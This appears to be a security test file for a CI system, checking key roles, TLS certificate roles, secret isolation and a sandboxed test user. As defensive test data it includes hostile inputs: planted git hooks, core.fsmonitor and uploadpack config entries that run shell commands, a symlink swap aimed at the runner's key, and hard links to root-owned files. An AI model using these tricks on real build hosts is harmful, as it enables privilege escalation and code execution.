    assert "secret on (master; issued keys accepted), TLS off" in logs["dispatcher"]
    assert "secret on (key observer:obs), TLS off" in logs["observer"]
    assert "secret on (key runner:ra), TLS off, test user off" in logs["runner-ra"]
    assert all(where.startswith("file ") for _key, wheres in found.values()
               for where in wheres), found
    # And with them: no retest, no dispatch, no token for N-1.
    by_key = {}
    for command, key_id, reply in report["replies"]:
        by_key.setdefault((command, key_id), []).append(reply)
    for key_id in ("runner:ra", "runner:rb"):
        # Nor take its runner's work elsewhere: one address per runner key.
        [reply] = by_key[("register", key_id)]
        assert reply.startswith(f"error:runner {key_id[7:]} is registered at 127.0.0.1:"), reply
        assert by_key[("retest", key_id)] == ["error:retest is not allowed for role runner"]
        assert by_key[("dispatch", key_id)] == [
            "error:dispatch is not allowed for role runner"]
        for reply in by_key[("results", key_id)]:
            assert reply.startswith(f"error:result for {report['previous'][:12]} refused"), \
                reply
    assert all(r.startswith("error:unsigned message refused")
               for r in by_key[("results", None)] + by_key[("retest", None)])


def test_hostile_commit_with_test_user_reaches_no_key(request):
    cluster, upstream, secret_files = hostile_cluster(request, test_user=True)
    previous_result, hostile_result, report = run_hostile_commit(cluster, upstream)
    assert_nothing_changed(cluster, previous_result, report)
    assert report["keys"] == [], report["keys"]
    runners = [d for d in cluster.daemons if d.name.startswith("runner")]
    assert len(runners) == 2
    for runner in runners:
        assert re.search(r"TLS off, test user ci-t-\w+ \(private HOME and TMPDIR per run; "
                         r"after each run every process of ci-t-\w+ is ended", runner.log())
    assert hostile_result["verdict"] == "passed", hostile_result
    # The per-test records still work as the test user (it can write the
    # runner's private JUnit folder, made its own for the run).
    assert "junit" not in hostile_result and "junit" not in previous_result
    assert os.path.exists(cluster.result_path(report["previous"]) + ".xml")
    # No key, of any process, appears in any result file.
    for name in os.listdir(cluster.results):
        with open(os.path.join(cluster.results, name), "rb") as handle:
            data = handle.read()
        for what, secret in all_key_material().items():
            assert secret.encode() not in data, (name, what)
        for what, path in secret_files.items():
            assert pathlib.Path(path).stat().st_mode & 0o777 == 0o600
            assert pathlib.Path(path).read_bytes().strip() not in data, (name, what)


def test_the_runner_hands_its_children_no_secret(monkeypatch):
    from ci.runner.slot import child_env
    monkeypatch.setenv("CI_SECRET", "ci-key-v1 runner:r1 " + "0" * 64)
    env = child_env()
    assert "CI_SECRET" not in env and env["PYTHONUNBUFFERED"] == "1"
    assert not any("ci-key-v1" in value for value in env.values())


# --------------------------------------------------------------------------
# TLS: the certificate's common name is the role.

needs_openssl = pytest.mark.skipif(shutil.which("openssl") is None,
                                   reason="needs the openssl command")


@pytest.fixture(scope="module")
def role_certs(tmp_path_factory):
    from test_security import make_role_certs
    return make_role_certs(tmp_path_factory.mktemp("tls"), [
        "dispatcher", "observer", "runner-r1", "runner-r2", "operator-op", "viewer-v"])


def tls_security(certs, cn: str, expect: str | None = "dispatcher",
                 **kwargs) -> Security:
    args = certs[cn]
    server, client = make_tls_contexts(args[1], args[3], args[5])
    return Security(server_tls=server, client_tls=client, tls_server_role=expect,
                            **kwargs)


class Recorder:
    """An in-process server that records every command it is sent."""

    def __init__(self, security: Security):
        self.seen: list[str] = []
        commands = {name: self.record for name in ("register", "dispatch", "notify",
                                                    "results", "status")}
        self.server = helpers.MessageServer((LOOPBACK, 0), commands, security)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever,
                                       kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def record(self, message, peer):
        self.seen.append(message.command)
        return Message("ok")

    def close(self):
        self.server.shutdown()
        self.thread.join(5)
        self.server.server_close()


@needs_openssl
def test_a_runner_certificate_cannot_pose_as_the_dispatcher(cluster, role_certs, upstream):
    fake = Recorder(tls_security(role_certs, "runner-r2", expect=None))
    cluster.closers.append(fake)
    cluster.dispatcher_port = fake.port   # runner and observer call the fake
    runner = cluster.start_runner(*role_certs["runner-r1"])
    observer = cluster.start_observer(*role_certs["observer"], "--no-listen", wait=False)
    expected = "presented a certificate for role 'runner', not 'dispatcher'"
    wait_until(lambda: expected in runner.log() and expected in observer.log(), 15,
               what="runner and observer refusing the fake dispatcher")
    assert any(expected in w for w in warnings(runner))
    # The hook client, too, wants the observer and gets told who answered.
    notify = subprocess.run([PY, os.path.join(ROOT, "repo_observer.py"), "notify",
                             "--observer", f"{LOOPBACK}:{fake.port}",
                             *role_certs["observer"]], capture_output=True, text=True,
                            timeout=20)
    assert notify.returncode == 1
    assert "presented a certificate for role 'runner', not 'observer'" in notify.stderr
    assert fake.seen == []   # nothing was ever sent to the impostor
    # And the runner accepts work only from a dispatcher's certificate.
    impostor = tls_security(role_certs, "runner-r2", expect="runner")
    reply = helpers.call((LOOPBACK, runner.port), "runtest", f"{C1} {'0' * 32}",
                         security=impostor, timeout=3)
    assert reply == Message("error", "certificate role 'runner' not accepted here")
    wait_until(lambda: any("has a certificate for role 'runner'; refused" in w
                           for w in warnings(runner)), 5, what="refusal logged")
    assert "accepted" not in runner.log()



@needs_openssl
def test_the_dashboard_wants_the_dispatchers_certificate(role_certs, tmp_path):
    import dashboard
    fake = Recorder(tls_security(role_certs, "runner-r2", expect=None))
    try:
        (tmp_path / "results").mkdir()
        args = dashboard.build_parser().parse_args([
            "--host", LOOPBACK, "--port", "0", "--results-dir", str(tmp_path / "results"),
            "--dispatcher-server", f"{LOOPBACK}:{fake.port}", *role_certs["viewer-v"]])
        server = dashboard.make_server(args)
        try:
            state, error = server.app.live.state()
        finally:
            server.server_close()
        assert state is None
        assert "presented a certificate for role 'runner', not 'dispatcher'" in error, error
        assert fake.seen == []
    finally:
        fake.close()

@needs_openssl
def test_certificate_roles_at_the_dispatcher(cluster, role_certs, tmp_path):
    disp = cluster.start_dispatcher(*role_certs["dispatcher"], "--secret-file",
                                    write_secret(tmp_path / "master", MASTER))
    port = cluster.dispatcher_port

    def as_(cn, **kwargs):
        return tls_security(role_certs, cn, **kwargs)
    # Even with the master secret, a runner's certificate is a runner.
    reply = ask(port, "dispatch", C1, security=as_("runner-r1", secret=MASTER))
    assert reply == Message("error", "dispatch is not allowed for role runner")
    reply = ask(port, "dispatch", C1, security=as_("viewer-v", secret=MASTER))
    assert reply == Message("error", "dispatch is not allowed for role viewer")
    assert ask(port, "status", security=as_("viewer-v", secret=MASTER)).command == "ok"
    assert ask(port, "dispatch", C1, security=as_("observer", secret=MASTER)) == \
        Message("ok", "queued 1")
    assert ask(port, "retest", C2, security=as_("operator-op", secret=MASTER)) == \
        Message("ok", "queued 1")
    # With an issued key too, key and certificate must name the same role.
    viewer_key = key_security("viewer", "v")
    assert ask(port, "state", security=as_("viewer-v", secret=viewer_key.secret,
                                           key_id=viewer_key.key_id)).command == "ok"
    observer_key = key_security("observer", "obs")
    reply = ask(port, "dispatch", C3, security=as_("runner-r1", secret=observer_key.secret,
                                                   key_id=observer_key.key_id))
    assert reply == Message("error", "key role observer does not match certificate role "
                                     "runner")
    # The dispatcher's own certificate is no client's.
    with pytest.raises((OSError, ProtocolError)):
        ask(port, "status", security=as_("dispatcher", secret=MASTER))
    assert any("has a certificate for role 'dispatcher'; refused" in w
               for w in warnings(disp))
    state = json.loads(ask(port, "state", security=as_("viewer-v", secret=MASTER)).body)
    assert [q["commit"] for q in state["queue"]] == [C1, C2]

    # A client without a certificate: refused at WARNING, with its address.
    with socket.create_connection((LOOPBACK, port), timeout=5) as raw:
        where = f"{LOOPBACK}:{raw.getsockname()[1]}"
        from test_security import client_context
        try:
            with client_context(ca=role_certs["dispatcher"][5]).wrap_socket(raw) as tls:
                tls.sendall(encode_frame(b"status", MASTER))
                tls.recv(100)
        except (OSError, ssl.SSLError):
            pass
    wait_until(lambda: any(f"TLS handshake with {where} refused" in w
                           for w in warnings(disp)), 5, what="the refused handshake logged")
    # A port probe (connect, close) is not worth a warning.
    with socket.create_connection((LOOPBACK, port), timeout=5) as probe:
        probed = f"{LOOPBACK}:{probe.getsockname()[1]}"
    wait_until(lambda: f"{probed} closed before the TLS handshake" in disp.log(), 5,
               what="the probe noticed")
    assert not any(probed in w for w in warnings(disp))


@needs_openssl
def test_tls_clients_are_told_about_plain_ports_and_busy_servers(cluster, role_certs,
                                                                  threaded_servers):
    from support.cluster import ThreadedServer
    plain = threaded_servers(ThreadedServer, {"status": lambda m, p: Message("ok")})
    with pytest.raises(ProtocolError, match="does not speak TLS"):
        helpers.call((LOOPBACK, plain.port), "status",
                     security=tls_security(role_certs, "viewer-v"), timeout=3)
    # At the connection cap the refusal comes after the handshake: readable.
    cluster.start_dispatcher(*role_certs["dispatcher"], "--max-connections", "1",
                             "--read-timeout", "5")
    held: list[socket.socket] = []

    def busy():
        # An idle connection holds the one slot (the first may race the
        # start-up port probe for it: then the next one holds it).
        held.append(socket.create_connection((LOOPBACK, cluster.dispatcher_port), timeout=5))
        reply = helpers.call((LOOPBACK, cluster.dispatcher_port), "status",
                             security=tls_security(role_certs, "viewer-v"), timeout=3)
        return reply.command == "busy" and reply
    try:
        reply = wait_until(busy, 5, interval=0.1, what="a busy reply over TLS")
    finally:
        for sock in held:
            sock.close()
    assert "busy" in reply.argument


ENV_TEST = """import os
import sys
import unittest


class TestEnvironment(unittest.TestCase):
    def test_built_by_the_setup_and_read_only_now(self):
        self.assertTrue(os.path.exists(os.path.join(sys.prefix, "setup-was-here")))
        try:
            open(os.path.join(sys.prefix, "poisoned"), "w").close()
        except PermissionError:
            return
        self.fail("the cached environment is writable by the test")
"""


def test_environments_under_test_user_are_built_by_it_then_read_only(request):
    """--test-user with a setup command: the setup runs as the test user in
    the new environment; once built, the environment is the runner's, so
    no later commit's test can poison it."""
    user = new_test_user(request)   # its own: the runner ends all its processes
    cluster, upstream, base, _nobody = user_folder_cluster(request)
    cluster.start_dispatcher()
    clone = nobody_clone(upstream, base / "clone", user)
    port = free_port()
    # The setup also hard-links a file from a cache of its own, as uv does.
    setup = ("python -c \"import os, sys; open(sys.prefix + '/setup-was-here', 'w').close(); "
             "open('cache-file', 'w').write('installed'); "
             "os.link('cache-file', sys.prefix + '/linked-from-cache')\"")
    args = [SYSTEM_PYTHON, os.path.join(ROOT, "test_runner.py"), "--host", LOOPBACK,
            "--port", str(port), "--dispatcher-server", cluster.dispatcher_address,
            "--heartbeat", "0.5", "--retry-max", "0.5", "--log-level", "DEBUG",
            "--test-user", user.pw_name, "--state-dir", str(base / "state"),
            "--setup-command", setup, clone]
    daemon = Daemon("runner", args, str(base / "runner.log"), str(base), cluster.env)
    cluster.daemons.append(daemon)
    wait_for_port(port, daemon)
    first = upstream.commit({"tests/test_env.py": ENV_TEST}, "uses its environment")
    second = upstream.commit({"tests/test_env2.py": ENV_TEST.replace("TestEnvironment",
                                                                      "TestAgain")}, "again")
    # main builds; a feature branch reuses main's environment, read-only.
    for commit, branch in ((first, "main"), (second, "feature/x")):
        reply = ask(cluster.dispatcher_port, "dispatch", commit,
                    f"{commit} - {branch}\n".encode())
        assert reply.command == "ok", reply
        fields = cluster.result(commit, 60)
        assert fields["verdict"] == "passed", fields["output"][-3000:].decode("utf-8", "replace")
    assert [(cluster.result(c)["setup"], cluster.result(c)["setup_scope"])
            for c in (first, second)] == [("built", "trusted"), ("reused", "trusted")]
    envs = base / "state" / "envs"
    built = [p for p in envs.iterdir() if p.is_dir()]
    assert len(built) == 1
    assert (built[0] / "setup-was-here").stat().st_uid == 0
    linked = built[0] / "linked-from-cache"
    assert linked.read_text() == "installed" and linked.stat().st_nlink == 1
    assert linked.stat().st_uid == 0
    assert not (built[0] / "poisoned").exists()
    assert (base / "state" / "outbox").stat().st_mode & 0o777 == 0o700


def test_a_runner_key_registers_one_address_only(cluster, tmp_path, keyed_runners):
    disp = cluster.start_dispatcher("--secret-file", write_secret(tmp_path / "master", MASTER))
    port = cluster.dispatcher_port
    first, second = keyed_runners("r1", "r1")   # the same key at two addresses
    first.register(port)
    with pytest.raises(AssertionError, match="runner r1 is registered at 127.0.0.1:"):
        second.register(port)
    assert any("runner r1 is registered at" in w for w in warnings(disp))
    # The runner really moved (its old port is dead): accepted once that is noticed.
    first.close()

    def moved():
        try:
            second.register(port)
        except AssertionError:
            return False
        return True
    wait_until(moved, 5, interval=0.2, what="the new address accepted")
    state = json.loads(ask(port, "state", security=key_security("viewer", "v")).body)
    assert [r["address"] for r in state["runners"]] == [f"{LOOPBACK}:{second.port}"]



def test_handing_an_environment_back_never_follows_a_swapped_symlink(tmp_path, monkeypatch):
    """While the runner hands a built environment back, a process the
    setup left behind (as the test user) may swap any name for a symlink
    to the runner's key the moment after the runner looked at it: the
    key's mode must not change, whatever the runner looked with."""
    from ci.runner.sandbox import ownership
    key = tmp_path / "runner.key"
    key.write_bytes(b"ci-key-v1 runner:r1 " + b"0" * 64 + b"\n")
    key.chmod(0o600)
    lib = tmp_path / "env" / "lib"
    lib.mkdir(parents=True)
    victim = lib / "module.py"
    victim.write_text("x = 1\n")
    victim.chmod(0o777)
    swapped = []

    def swap_after(real):
        def looked(*args, **kwargs):
            result = real(*args, **kwargs)
            path = args[0]
            if isinstance(path, (str, os.PathLike)) and not swapped and \
                    os.path.basename(path) == victim.name:
                os.unlink(victim)
                os.symlink(key, victim)
                swapped.append(real.__name__)
            return result
        return looked
    for name in ("lstat", "stat", "open"):
        monkeypatch.setattr(os, name, swap_after(getattr(os, name)))
    ownership.chown_tree(str(tmp_path / "env"), os.getuid(), os.getgid(), strip=0o6022)
    monkeypatch.undo()
    assert swapped, "the tree walk never looked at the file"
    assert key.stat().st_mode & 0o7777 == 0o600
    assert victim.is_symlink()


def test_a_runner_with_test_user_refuses_a_key_file_the_test_user_can_read(request):
    """A key file printed with a shell redirect (mode 644) would be open
    to the tests: --test-user refuses to start with it, naming the file."""
    base, upstream, nobody = nobody_folder(request, "ci-keymode-")
    upstream.commit({"tests/test_sample.py": PASSING_TEST}, "initial")
    clone = nobody_clone(upstream, base / "clone", nobody)
    key = base / "r1.key"
    key.write_text(auth.format_key_file("runner", "r1", MASTER))

    def start(mode):
        key.chmod(mode)
        return subprocess.run(
            [PY, os.path.join(ROOT, "test_runner.py"), "--host", LOOPBACK, "--port",
             str(free_port()), "--dispatcher-server", f"{LOOPBACK}:9", "--secret-file",
             str(key), "--test-user", "nobody", "--state-dir", str(base / "state"),
             "--dispatcher-timeout", "0.5", "--retry-max", "0.1", str(clone)],
            capture_output=True, text=True, timeout=30, stdin=subprocess.DEVNULL)
    refused = start(0o644)
    assert refused.returncode == 2, refused.stderr
    assert f"--test-user nobody can read --secret-file {key}" in refused.stderr
    assert not (base / "state").exists()
    # Private to the runner's user: it starts (and gives up on the absent
    # dispatcher after --dispatcher-timeout).
    accepted = start(0o600)
    assert "can read" not in accepted.stderr, accepted.stderr
    assert "test user nobody" in accepted.stderr, accepted.stderr[-2000:]
    # A runner's repository git cannot use is a clear error, not a traceback.
    (base / "state" / "git" / "config").write_text("[broken\n")
    broken = start(0o600)
    assert broken.returncode == 2 and "is unusable" in broken.stderr, broken.stderr[-2000:]


TAMPERING_TEST = r'''import json, os, subprocess, unittest

MARKER = %r


def attempt(what, action):
    try:
        action()
        return "done"
    except (OSError, subprocess.CalledProcessError) as exc:
        return "refused: %%s" %% exc


def git(*args):
    subprocess.run(["git", *args], check=True, capture_output=True)


class Tamper(unittest.TestCase):
    def test_reach_for_the_next_checkout(self):
        gitdir = subprocess.run(["git", "rev-parse", "--absolute-git-dir"], check=True,
                                capture_output=True, text=True).stdout.strip()
        head = subprocess.run(["git", "rev-parse", "HEAD"], check=True,
                              capture_output=True, text=True).stdout.strip()
        hook = "#!/bin/sh\ntouch " + MARKER + "\n"

        def write_hook(folder):
            path = os.path.join(folder, "hooks", "post-checkout")
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as handle:
                handle.write(hook)
            os.chmod(path, 0o755)

        def own_repository():
            # A repository of its own where the runner's pointer was.
            os.unlink(".git")
            git("init", "-q", ".git-own")
            os.rename(".git-own/.git", ".git")
            write_hook(".git")
            git("config", "core.fsmonitor", "touch " + MARKER)
        report = {
            "gitdir": gitdir,
            "hook": attempt("hook", lambda: write_hook(gitdir)),
            "config": attempt("config", lambda: git("config", "core.fsmonitor",
                                                     "touch " + MARKER)),
            "replace": attempt("replace", lambda: git("update-ref", "refs/replace/" + head,
                                                      head)),
            "objects": attempt("objects", lambda: open(os.path.join(
                gitdir, "objects", "planted"), "w").close()),
            "pointer": attempt("pointer", own_repository),
        }
        print("TAMPER REPORT " + json.dumps(report), flush=True)
'''


def test_a_test_user_cannot_change_the_repository_later_checkouts_use(request):
    """--test-user: the clone's repository is the runner's (sandbox.private_git).
    A commit whose test tries to plant a hook, a config entry, a replace
    ref or an object in it, or a repository of its own in the tree, is
    refused each time (or ignored), and the next commit on that runner is
    checked out and judged as itself."""
    user = new_test_user(request)   # its own: the runner ends all its processes
    cluster, upstream, base, _nobody = user_folder_cluster(request)
    # No global safe.directory: the runner must give the tests' git its own.
    cluster.env.pop("GIT_CONFIG_GLOBAL")
    marker = base / "hook-ran"
    clone = pathlib.Path(nobody_clone(upstream, base / "clone", user))
    state = base / "state"
    cluster.start_dispatcher()
    cluster.start_runner("--test-command", TEST_COMMAND, "--test-user", user.pw_name,
                         "--state-dir", str(state), clone=clone)
    cluster.start_observer("--poll", "0.3", "--no-listen", wait=False)
    cluster.result(git_head(upstream), 30)
    tamper = upstream.commit({"tests/test_tamper.py": TAMPERING_TEST % str(marker)},
                             "tamper with the repository")
    tampered = cluster.result(tamper, 30)
    assert b"TAMPER REPORT " in tampered["output"], tampered["output"][-3000:]
    report = json.loads(tampered["output"].split(b"TAMPER REPORT ", 1)[1].splitlines()[0])
    assert report["gitdir"] == str(state / "git"), report
    for what in ("hook", "config", "replace", "objects"):
        assert report[what].startswith("refused"), (what, report)
    assert report["pointer"] == "done", report   # its own tree: but the runner ignores it
    broken = upstream.commit({"tests/test_tamper.py": None,
                              "tests/test_sample.py": FAILING_TEST}, "break it")
    result = cluster.result(broken, 30)
    assert result["verdict"] == "failed", result
    assert result["failures"] == "1", result
    assert not marker.exists(), "a planted hook ran"
    # The tree's .git names the runner's repository again, which holds no hook.
    assert (clone / ".git").read_text() == f"gitdir: {state / 'git'}\n"
    assert not (state / "git" / "hooks" / "post-checkout").exists()
    assert (state / "git").stat().st_uid == os.getuid()
    assert (clone / "tests" / "test_sample.py").stat().st_uid == user.pw_uid


def private_clone(request):
    """A clone given to 'nobody' with the runner's own repository
    (private_git) beside it, in a folder that user can traverse; returns
    (upstream, the repository, a function checking out a commit as the
    runner does, the user)."""
    from ci.runner.sandbox import private_git
    base, upstream, nobody = nobody_folder(request, "ci-private-")
    upstream.commit({"tests/test_sample.py": PASSING_TEST, "docs/notes.txt": "notes\n"},
                    "initial")
    clone = nobody_clone(upstream, base / "clone", nobody)
    (base / "state").mkdir(mode=0o711)
    private = private_git.PrivateRepository(clone, str(base / "state"), nobody.pw_uid,
                                            nobody.pw_gid)
    private.setup()

    def checkout(commit):
        subprocess.run(["bash", os.path.join(ROOT, "test_runner_script.sh"), clone, commit],
                       cwd=clone, env=private.git_env(dict(os.environ)), check=True,
                       capture_output=True)
        private.give_tree()
    return upstream, private, checkout, nobody


def as_user(user, script: str, cwd) -> None:
    """Run a shell script as ``user``, in the environment the runner gives
    its tests."""
    from ci.runner.sandbox.user import TestUser
    env = TestUser(user.pw_name).env({"PATH": os.environ["PATH"]})
    subprocess.run(["bash", "-c", script], cwd=cwd, check=True, user=user.pw_uid,
                   group=user.pw_gid, extra_groups=[], env=env)


def test_the_runners_git_never_enters_a_submodule_repository_a_test_planted(request):
    """Git fetches a changed submodule on its own when the submodule's
    folder holds a repository, and runs what that repository's config says:
    one a test (or a process it left behind) plants would run as the
    runner's user at the next push that moves the submodule."""
    upstream, private, checkout, nobody = private_clone(request)
    other = Upstream(pathlib.Path(upstream.path).parent / "other")
    first, second = other.commit(message="o1"), other.commit(message="o2")

    def move_submodule(to: str) -> str:
        with open(os.path.join(upstream.path, ".gitmodules"), "w") as handle:
            handle.write('[submodule "sub"]\n\tpath = sub\n\turl = ../other\n')
        git(upstream.path, "add", ".gitmodules")
        git(upstream.path, "update-index", "--add", "--cacheinfo", f"160000,{to},sub")
        git(upstream.path, "commit", "-q", "-m", f"submodule at {to[:8]}")
        return git_head(upstream)
    checkout(move_submodule(first))
    marker = pathlib.Path(private.repo).parent / "MARKER-ran-as-runner"
    as_user(nobody, f"git init -q sub && git -C sub config remote.origin.url {other.path}"
                    f" && git -C sub config remote.origin.uploadpack "
                    f"'touch {marker}; git-upload-pack'", private.repo)
    head = move_submodule(second)
    checkout(head)   # a fetch: the new commit is not in the runner's repository yet
    assert not marker.exists()
    assert subprocess.run(["git", "rev-parse", "HEAD"], env=private.git_env(dict(os.environ)),
                          capture_output=True, text=True).stdout.strip() == head


def test_a_git_folder_or_hard_link_a_test_leaves_in_the_tree_is_gone_after_checkout(request):
    """git's clean leaves every .git alone: a repository a test puts in a
    tracked folder would be the one a later test's git uses there (its
    config runs commands), and a hard link named .git would be given to
    the test user, and with it the file it links to."""
    upstream, private, checkout, nobody = private_clone(request)
    head = git_head(upstream)
    checkout(head)
    outside = pathlib.Path(private.repo).parent / "root-file"
    outside.write_text("root's\n")
    outside.chmod(0o666)   # one the test user may link to (fs.protected_hardlinks)
    marker = pathlib.Path(private.repo).parent / "config-ran"
    as_user(nobody, f"""set -e
        git init -q tests && git --git-dir=tests/.git config core.fsmonitor 'touch {marker}'
        ln {outside} docs/.git
        ln {outside} docs/linked""", private.repo)
    checkout(head)
    assert not os.path.lexists(os.path.join(private.repo, "tests", ".git"))
    assert not os.path.lexists(os.path.join(private.repo, "docs", ".git"))
    assert outside.stat().st_uid == 0, "the linked file was given to the test user"
    assert outside.read_text() == "root's\n"
    as_user(nobody, "git status --short >/dev/null", os.path.join(private.repo, "tests"))
    assert not marker.exists()
    # A hard link chown_tree meets (say, one made while it walks) is
    # removed, never given.
    as_user(nobody, f"ln {outside} docs/late", private.repo)
    from ci.runner.sandbox import ownership
    ownership.chown_tree(private.repo, nobody.pw_uid, nobody.pw_gid, skip=(".git",))
    assert outside.stat().st_uid == 0
    assert not os.path.lexists(os.path.join(private.repo, "docs", "late"))


def test_while_the_runner_checks_out_no_folder_of_the_tree_is_the_test_users(request):
    """The runner's git (as root) writes in the tree: a process a test
    left behind that could still rename in it could swap a folder for a
    symlink under git (which looks at a folder once, then writes all its
    files) and have root write a commit's files anywhere.  So the tree is
    the runner's, closed to others, from before the checkout to after."""
    upstream, private, checkout, nobody = private_clone(request)
    head = git_head(upstream)
    checkout(head)
    as_user(nobody, "mkdir -p tests/made && chmod 777 tests/made docs", private.repo)
    private.take_tree()
    victim = pathlib.Path(private.repo).parent / "victim"
    victim.mkdir(mode=0o777)
    for folder in (".", "tests", "tests/made", "docs"):
        with pytest.raises(subprocess.CalledProcessError):
            as_user(nobody, f"mv {folder}/. {folder}/x 2>/dev/null || "
                            f"ln -s {victim} {folder}/swapped", private.repo)
    assert not list(pathlib.Path(private.repo).rglob("swapped"))
    checkout(head)
    assert os.stat(private.repo).st_uid == nobody.pw_uid
    assert os.stat(os.path.join(private.repo, "tests")).st_uid == nobody.pw_uid
    # A runner stopped between the two starts again (the tree is given back).
    private.take_tree()
    private.setup()
    assert os.stat(private.repo).st_uid == nobody.pw_uid


@needs_openssl
def test_tls_with_issued_keys_tests_a_commit_end_to_end(cluster, role_certs, upstream,
                                                        tmp_path):
    """README's deployment: the dispatcher with the master secret, the
    runner and the observer each with an issued key and a certificate of
    their role.  The dispatcher calls the runner signed with the runner's
    key over its own certificate, which the runner must accept."""
    master = write_secret(tmp_path / "master", MASTER)
    runner_key = write_secret(tmp_path / "r1.key", auth.format_key_file(
        "runner", "r1", MASTER).encode())
    observer_key = write_secret(tmp_path / "obs.key", auth.format_key_file(
        "observer", "obs", MASTER).encode())
    cluster.start_dispatcher(*role_certs["dispatcher"], "--secret-file", master)
    runner = cluster.start_runner(*role_certs["runner-r1"], "--secret-file", runner_key)
    cluster.start_observer(*role_certs["observer"], "--secret-file", observer_key,
                           "--no-listen", wait=False)
    result = cluster.result(git_head(upstream), 30)
    assert result["verdict"] == "passed", result
    assert "does not match" not in runner.log()
